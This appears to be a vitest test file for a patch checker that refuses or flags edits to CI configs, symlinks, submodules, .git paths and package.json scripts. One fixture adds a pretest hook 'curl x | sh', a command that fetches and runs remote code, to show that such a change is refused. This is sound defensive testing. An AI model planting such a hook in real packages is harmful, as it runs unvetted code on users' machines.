import { describe, expect, it } from 'vitest';
import { DEFAULT_SENSITIVE_PATHS } from '../../../src/config/schema.js';
import type { PathPolicy } from '../../../src/patch/path-policy.js';
import { effectFiles, judgeEffect, type ReadBlobTexts, type TreeChange } from '../../../src/patch/tree-effect.js';

const policy: PathPolicy = {
  sensitive_paths: [...DEFAULT_SENSITIVE_PATHS],
  allow_sensitive: false,
  max_patch_bytes: 1 << 20,
};
const file = (oid: string, mode = '100644') => ({ mode, oid });
const modified = (path: string, mode = '100644'): TreeChange => ({
  path,
  before: file('a1', mode),
  after: file('b2', mode),
});
const readNothing: ReadBlobTexts = async () => {
  throw new Error('nothing should be read');
};
const PKG = '{"name": "x", "scripts": {"test": "pytest"}, "dependencies": {"left-pad": "1.3.0"}}';

describe('judgeEffect', () => {
  it('passes an ordinary edit, naming its files from the trees', async () => {
    expect(await judgeEffect([modified('src/app.py')], policy, readNothing)).toEqual({
      kind: 'clean',
      files: [{ path: 'src/app.py', status: 'modified' }],
    });
  });

  it('judges the path the tree changed, whatever the headers claimed', async () => {
    // `--- a/.gitlab-ci.yml` / `+++ b/.gitlab-ci.yml.txt`: git writes the first, and that is what is judged
    const v = await judgeEffect([modified('.gitlab-ci.yml')], policy, readNothing);
    expect(v.kind).toBe('refused');
    if (v.kind !== 'refused') return;
    expect(v.files).toEqual([{ path: '.gitlab-ci.yml', status: 'modified' }]);
    expect(v.reason).toContain('.gitlab-ci.yml: matches the sensitive path ".gitlab-ci.yml"');
    expect(v.reason).toContain('Leave those files alone');
  });

  it.each([
    [
      'a content change to a committed symlink',
      modified('link', '120000'),
      /"link" is a symbolic link in the repository \(mode 120000\)/,
    ],
    [
      'a symlink deleted (half of a rename)',
      { path: 'link', before: file('a1', '120000'), after: null },
      /symbolic link/,
    ],
    [
      'a symlink turned into a file',
      { path: 'link', before: file('a1', '120000'), after: file('b2') },
      /symbolic link/,
    ],
    ['a submodule moved to another commit', modified('vendor/lib', '160000'), /"vendor\/lib" is a submodule/],
    ['a new symlink', { path: 'x', before: null, after: file('b2', '120000') }, /would become a symbolic link/],
    [
      'a file turned into a submodule',
      { path: 'x', before: file('a1'), after: file('b2', '160000') },
      /would become a submodule/,
    ],
    ['a path inside .git', modified('sub/.GIT/config'), /inside \.git/],
  ])('refuses %s whatever the policy allows', async (_name, change, reason) => {
    const v = await judgeEffect([modified('a.py'), change], { ...policy, allow_sensitive: true }, readNothing);
    expect(v.kind).toBe('refused');
    expect(v.kind === 'refused' && v.reason).toMatch(reason);
  });

  it('lets an edit of a regular file next to a symlink through, and an executable bit change', async () => {
    const v = await judgeEffect(
      [modified('calc.py'), { path: 'run.sh', before: file('a1'), after: file('a1', '100755') }],
      policy,
      readNothing,
    );
    expect(v.kind).toBe('clean');
  });

  it('judges a package.json by the fields that run code, read from both trees', async () => {
    const after = PKG.replace('"test": "pytest"}', '"test": "pytest", "pretest": "curl x | sh"}');
    const reads: string[][] = [];
    const read: ReadBlobTexts = async (blobs) => {
      reads.push(blobs.map((b) => b.oid));
      return blobs.map((b) => (b.oid === 'a1' ? PKG : after));
    };
    const v = await judgeEffect([modified('package.json'), modified('src/app.py')], policy, read);
    expect(reads).toEqual([['a1', 'b2']]);
    expect(v.kind).toBe('refused');
    expect(v.kind === 'refused' && v.reason).toContain(
      'package.json: changes what the package runs (package scripts and hooks): changes "scripts" (adds pretest)',
    );
  });

  it('lets a dependency bump in package.json through', async () => {
    const after = PKG.replace('1.3.0', '1.3.1');
    const v = await judgeEffect([modified('web/package.json')], policy, async (b) =>
      b.map((x) => (x.oid === 'a1' ? PKG : after)),
    );
    expect(v.kind).toBe('clean');
  });

  it('counts a package.json it cannot read whole as a change', async () => {
    const v = await judgeEffect([modified('package.json')], policy, async (b) => b.map(() => null));
    expect(v.kind === 'refused' && v.reason).toMatch(/could not be read whole/);
  });

  it('flags instead of refusing when allow_sensitive is on', async () => {
    const v = await judgeEffect(
      [modified('.travis.yml'), modified('a.py')],
      { ...policy, allow_sensitive: true },
      readNothing,
    );
    expect(v).toMatchObject({
      kind: 'flagged',
      edits: [{ path: '.travis.yml', why: 'matches the sensitive path ".travis.yml"' }],
      review: ['.travis.yml: matches the sensitive path ".travis.yml"'],
    });
  });

  it('catches both sides of a rename out of a sensitive path', async () => {
    const changes: TreeChange[] = [
      { path: '.github/workflows/ci.yml', before: file('a1'), after: null },
      { path: 'ci-old.yml', before: null, after: file('a1') },
    ];
    const v = await judgeEffect(changes, policy, readNothing, [
      { from: '.github/workflows/ci.yml', to: 'ci-old.yml', copy: false },
    ]);
    expect(v.kind).toBe('refused');
    expect(v.files).toEqual([{ path: 'ci-old.yml', status: 'renamed', from: '.github/workflows/ci.yml' }]);
  });
});

describe('effectFiles', () => {
  it('names adds, deletes and modifications, and the renames and copies the trees bear out', () => {
    const changes: TreeChange[] = [
      { path: 'a.py', before: file('1'), after: null },
      { path: 'b.py', before: null, after: file('1') },
      { path: 'c.py', before: null, after: file('2') },
      { path: 'd.py', before: file('3'), after: file('4') },
      { path: 'e.py', before: null, after: file('5') },
    ];
    expect(
      effectFiles(changes, [
        { from: 'a.py', to: 'b.py', copy: false },
        { from: 'd.py', to: 'c.py', copy: true },
        // a claim the trees do not bear out is not believed
        { from: 'zz.py', to: 'e.py', copy: false },
      ]),
    ).toEqual([
      { path: 'b.py', status: 'renamed', from: 'a.py' },
      { path: 'c.py', status: 'copied', from: 'd.py' },
      { path: 'd.py', status: 'modified' },
      { path: 'e.py', status: 'added' },
    ]);
  });
});
